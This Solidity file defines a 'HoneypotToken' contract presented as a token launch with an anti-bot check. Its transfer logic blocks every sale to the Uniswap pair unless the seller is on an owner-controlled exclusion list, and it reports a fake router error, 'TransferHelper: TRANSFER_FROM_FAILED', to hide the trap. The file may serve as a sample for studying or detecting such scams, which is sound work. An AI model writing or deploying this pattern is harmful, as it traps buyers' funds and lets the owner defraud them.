// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Ownable} from "../lib/Ownable.sol";
import {PairedToken} from "../lib/PairedToken.sol";

/// Looks like a launch with an "anti-bot" check; whoever is not excluded can never sell.
contract HoneypotToken is PairedToken, Ownable {
    mapping(address => bool) private _isExcluded;

    constructor(string memory name_, string memory symbol_, uint256 supply, address router)
        PairedToken(name_, symbol_, supply, router)
    {
        _isExcluded[msg.sender] = true;
        _isExcluded[address(this)] = true;
    }

    function excludeFromAntiBot(address account, bool excluded) external onlyOwner {
        _isExcluded[account] = excluded;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(to != uniswapV2Pair || _isExcluded[from], "TransferHelper: TRANSFER_FROM_FAILED");
        _move(from, to, value);
    }
}
